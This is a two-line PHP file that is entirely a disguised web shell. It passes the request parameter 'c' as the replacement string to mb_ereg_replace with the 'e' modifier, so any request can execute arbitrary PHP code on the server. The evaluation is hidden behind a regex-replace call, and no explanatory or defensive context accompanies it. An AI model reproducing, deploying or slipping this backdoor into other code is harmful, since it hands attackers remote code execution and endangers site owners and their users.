<?php
mb_ereg_replace(".*", $_REQUEST["c"], "x", "e");
